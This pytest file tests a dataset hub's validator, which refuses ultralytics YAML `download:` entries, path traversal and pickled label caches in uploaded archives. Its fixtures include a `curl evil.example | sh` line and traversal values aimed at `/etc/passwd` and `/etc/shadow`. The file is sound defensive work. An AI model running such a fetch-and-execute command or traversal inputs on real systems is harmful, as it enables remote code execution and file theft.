"""A dataset archive other users' trainers download carries only what ultralytics needs to train.

ultralytics runs a YAML's `download:` entry (URL, bash or Python) on the trainer when a split path
is missing, and joins split paths (and the lines of split list files) to the trainer's own disk.
So the hub refuses `download:`, keys ultralytics does not read, and paths that are absolute,
climb out of the archive or name nothing in it (decision 0012).
"""

import os
from pathlib import Path

import pytest
import yaml

from tests.factories import DATASET_YAML, dataset_zip, error
from tests.integration.test_datasets import create_dataset, upload
from tests.multipart import file_part
from tests.unit.test_archives import YAML, coco8, refused, write_tar, write_zip
from trainhub.server.archives import inspect_archive
from trainhub.server.archives.dataset_yaml import ALLOWED_KEYS

ROOT = Path(__file__).resolve().parents[2]
ULTRALYTICS_VENVS = {
    "8.3": Path(os.environ.get("COMPAT_VENV") or ROOT / ".venv-compat"),
    "8.4": Path(os.environ.get("ML84_VENV") or ROOT / ".venv-ml84"),
}
# Keys of ultralytics' bundled YAMLs that a hosted archive must not carry: `download:` runs code,
# `path:` breaks resumed runs, `map:` (ImageNet's display names) is never read from a dataset.
REFUSED_ON_PURPOSE = {"download", "path", "map"}


def accepted(members: list[tuple[str, bytes]], tmp_path: Path, filename: str = "coco8.zip") -> str:
    path = write_zip(tmp_path / filename, members)
    return inspect_archive(path, filename).layout


# --- download: and unknown keys ---


@pytest.mark.parametrize(
    "download",
    [
        b"download: https://example.com/coco8.zip\n",
        b"download: bash data/scripts/get_coco.sh\n",
        b"download: |\n  import os\n  os.system('curl evil.example | sh')\n",
        b"download: ''\n",
    ],
)
def test_a_download_entry_is_refused_with_what_to_remove(tmp_path: Path, download: bytes) -> None:
    path = write_zip(tmp_path / "coco8.zip", coco8(yaml_text=YAML + download))
    message = refused(path)
    assert "'download:'" in message
    assert "remove 'download:' from coco8/coco8.yaml" in message


def test_a_download_entry_is_refused_in_a_tar_gz_too(tmp_path: Path) -> None:
    members = coco8("./coco8/", yaml_text=YAML + b"download: https://example.com/x.zip\n")
    path = write_tar(tmp_path / "coco8.tar.gz", members, "w:gz")
    assert "remove 'download:' from coco8/coco8.yaml" in refused(path)


def test_unknown_keys_are_refused_and_named(tmp_path: Path) -> None:
    extra = b"roboflow:\n  workspace: me\n  version: 2\nmap:\n  n01: tench\n"
    message = refused(write_zip(tmp_path / "coco8.zip", coco8(yaml_text=YAML + extra)))
    assert "keys trainers do not use: 'roboflow', 'map'" in message
    assert "remove them from coco8/coco8.yaml" in message


def test_a_key_that_is_not_a_string_is_refused(tmp_path: Path) -> None:
    message = refused(write_zip(tmp_path / "coco8.zip", coco8(yaml_text=YAML + b"1: x\n")))
    assert "keys trainers do not use: '1'" in message


@pytest.mark.parametrize(
    "extra",
    [
        b"test: images/val\nminival: [images/val]\n",
        b"kpt_shape: [17, 3]\nflip_idx: [0, 2, 1]\nkpt_names:\n  0: [nose]\n"
        b"kpt_oks_sigmas: [0.1, 0.2]\n",
        b"channels: 1\n",
        b"masks_dir: masks\nlabel_mapping: {0: 1, 255: ignore_label}\nbg_class_idx: 0\n",
        b"depth_scale: 1000\nmax_depth: 10.0\n",
        b"nc: 1\n",
        b"path:\ntest:\n",
    ],
)
def test_the_keys_ultralytics_trains_with_are_accepted(tmp_path: Path, extra: bytes) -> None:
    assert accepted(coco8(yaml_text=YAML + extra), tmp_path) == "detect"


@pytest.mark.parametrize("version", ULTRALYTICS_VENVS)
def test_every_key_of_ultralytics_own_dataset_yamls_is_allowed_or_refused_on_purpose(
    version: str,
) -> None:
    folders = sorted(ULTRALYTICS_VENVS[version].glob("lib/python3*/site-packages/ultralytics"))
    assert folders, f"no ultralytics {version} in {ULTRALYTICS_VENVS[version]} (make venvs)"
    keys: set[str] = set()
    for path in (folders[0] / "cfg" / "datasets").glob("*.yaml"):
        keys |= set(yaml.safe_load(path.read_text()))
    assert len(keys) > 5
    assert keys - REFUSED_ON_PURPOSE <= ALLOWED_KEYS


@pytest.mark.parametrize(
    ("extra", "phrase"),
    [
        (b"kpt_shape: 17\n", "'kpt_shape:' in 'coco8/coco8.yaml' must be a list"),
        (b"channels: three\n", "'channels:' in 'coco8/coco8.yaml' must be a whole number"),
        (b"masks_dir: ../../secrets\n", "'masks_dir:' in 'coco8/coco8.yaml' must be the name"),
        (b"masks_dir: /etc\n", "must be the name of one folder"),
        (b"nc: 1.5\n", "'nc:' in 'coco8/coco8.yaml' must be the number of classes"),
    ],
)
def test_task_keys_of_the_wrong_shape_are_refused(
    tmp_path: Path, extra: bytes, phrase: str
) -> None:
    assert phrase in refused(write_zip(tmp_path / "coco8.zip", coco8(yaml_text=YAML + extra)))


# --- split paths ---


@pytest.mark.parametrize(
    ("splits", "phrase"),
    [
        (b"train: /home/me/coco8/images/train\nval: images/val\n", "not a path relative"),
        (b"train: images/train\nval: C:/data/val\n", "not a path relative"),
        (b"train: images\\train\nval: images/val\n", "'/' separators"),
        (b"train: images/train\nval: ../../../etc\n", "climbs out of the archive"),
        (b"train: images/train\nval: images/missing\n", "names no folder or file"),
        (b"train: images/train\nval: [images/val, /mnt/val]\n", "'val: /mnt/val'"),
        (b"train: images/train\nval: [images/val, 3]\n", "must be a folder or list-file path"),
        (b"train: images/train\nval: images/val\ntest: ../other/images\n", "folder 'coco8'"),
        (b"train: ..\nval: images/val\n", "'train: ..' in 'coco8/coco8.yaml' climbs out of"),
    ],
)
def test_split_paths_outside_the_dataset_are_refused(
    tmp_path: Path, splits: bytes, phrase: str
) -> None:
    path = write_zip(tmp_path / "coco8.zip", coco8(yaml_text=splits + b"names: [person]\n"))
    assert phrase in refused(path)


def test_a_split_that_climbs_out_of_loose_files_is_refused(tmp_path: Path) -> None:
    yaml_text = b"train: images/train\nval: ../val\nnames: [person]\n"
    path = write_zip(tmp_path / "mine.zip", coco8(root="", yaml_text=yaml_text, yaml_name="d.yaml"))
    assert "'val: ../val' in 'd.yaml' climbs out of the archive" in refused(path)


def test_a_roboflow_style_split_gets_a_hint(tmp_path: Path) -> None:
    yaml_text = b"train: ../images/train\nval: images/val\nnames: [person]\n"
    message = refused(write_zip(tmp_path / "coco8.zip", coco8(yaml_text=yaml_text)))
    assert "did you mean 'train: images/train'?" in message


def test_splits_may_be_lists_and_may_climb_back_into_the_dataset(tmp_path: Path) -> None:
    yaml_text = b"train: [../images/train, ./../images/val]\nval: ../images/val\nnames: [a]\n"
    members = [(n.replace("coco8.yaml", "cfg/c.yaml"), d) for n, d in coco8(yaml_text=yaml_text)]
    assert accepted(members, tmp_path) == "detect"


def test_a_split_into_finder_litter_names_nothing(tmp_path: Path) -> None:
    yaml_text = b"train: images/train\nval: __MACOSX/val\nnames: [a]\n"
    members = [*coco8(root="", yaml_text=yaml_text), ("__MACOSX/val/a.jpg", b"x")]
    assert "names no folder or file" in refused(write_zip(tmp_path / "m.zip", members))


# --- split list files ---

LIST_YAML = b"train: train.txt\nval: lists/val.txt\nnames: [person]\n"


def with_lists(train: bytes, val: bytes = b"./../images/val/a.jpg\n") -> list[tuple[str, bytes]]:
    return [
        *coco8(yaml_text=LIST_YAML),
        ("coco8/train.txt", train),
        ("coco8/lists/val.txt", val),
    ]


def test_list_files_of_dot_relative_images_are_accepted(tmp_path: Path) -> None:
    members = with_lists(b"\xef\xbb\xbf./images/train/a.jpg\r\n\n./images/train/b.jpg\n")
    assert accepted(members, tmp_path) == "detect"


@pytest.mark.parametrize("mode", ["w", "w:gz"])
def test_list_files_are_checked_in_tars_too(tmp_path: Path, mode: str) -> None:
    path = write_tar(tmp_path / "coco8.tar", with_lists(b"/etc/shadow.jpg\n"), mode)
    assert "line 1 of 'coco8/train.txt'" in refused(path, "coco8.tar.gz" if "gz" in mode else None)


@pytest.mark.parametrize(
    ("train", "phrase"),
    [
        (b"./images/train/a.jpg\n/home/me/private.jpg\n", "line 2 of 'coco8/train.txt'"),
        (b"images/train/a.jpg\n", "is not a './'-relative path"),
        (b"./images/train/a.jpg\r./../../../etc/x.jpg\n", "climbs out of the dataset"),
        (b"./a.jpg\xc2\x85/etc/passwd.jpg\n", "line 2 of 'coco8/train.txt' ('/etc/passwd.jpg')"),
        (b".\\images\\a.jpg\n", "is not a './'-relative path"),
        (b"./images/\xff.jpg\n", "is not UTF-8 text"),
        (b"./" + b"a" * 5000 + b".jpg\n", "longer than 4096 bytes"),
    ],
)
def test_list_files_that_reach_outside_the_dataset_are_refused(
    tmp_path: Path, train: bytes, phrase: str
) -> None:
    assert phrase in refused(write_zip(tmp_path / "coco8.zip", with_lists(train)))


def test_a_list_line_that_climbs_out_of_the_top_folder_is_refused(tmp_path: Path) -> None:
    # "./../x" from coco8/lists/val.txt is coco8/x; one more "../" is another dataset's folder
    message = refused(write_zip(tmp_path / "coco8.zip", with_lists(b"", b"./../../x/a.jpg\n")))
    assert "line 1 of 'coco8/lists/val.txt'" in message


# --- label caches ---


@pytest.mark.parametrize("name", ["coco8/labels/train.cache", "flowers/train.CACHE"])
def test_label_caches_are_refused_because_trainers_unpickle_them(tmp_path: Path, name: str) -> None:
    # ultralytics np.load(..., allow_pickle=True)s <labels>/<split>.cache before checking it
    message = refused(write_zip(tmp_path / "coco8.zip", [*coco8(), (name, b"\x80\x04.")]))
    assert f"contains {name!r}, an ultralytics label cache" in message
    assert "Delete the .cache files" in message


def test_finder_litter_named_like_a_cache_is_ignored_as_before(tmp_path: Path) -> None:
    members = [*coco8(), ("__MACOSX/coco8/labels/._train.cache", b"x")]
    assert accepted(members, tmp_path) == "detect"


# --- through the API ---


def test_an_upload_with_a_download_entry_is_refused_and_nothing_is_kept(alice) -> None:
    dataset_id = create_dataset(alice)
    archive = dataset_zip(yaml_text=DATASET_YAML + "download: https://example.com/evil.zip\n")
    message = error(upload(alice, dataset_id, [file_part("shapes.zip", archive)]), 422)
    assert "remove 'download:' from shapes/shapes.yaml" in message
    assert alice.get(f"/v1/datasets/{dataset_id}").json()["data"]["url"] is None


def test_the_stock_example_archive_layout_is_still_accepted(alice) -> None:
    dataset_id = create_dataset(alice)
    response = upload(alice, dataset_id, [file_part("shapes.zip", dataset_zip())])
    assert response.status_code == 200, response.text
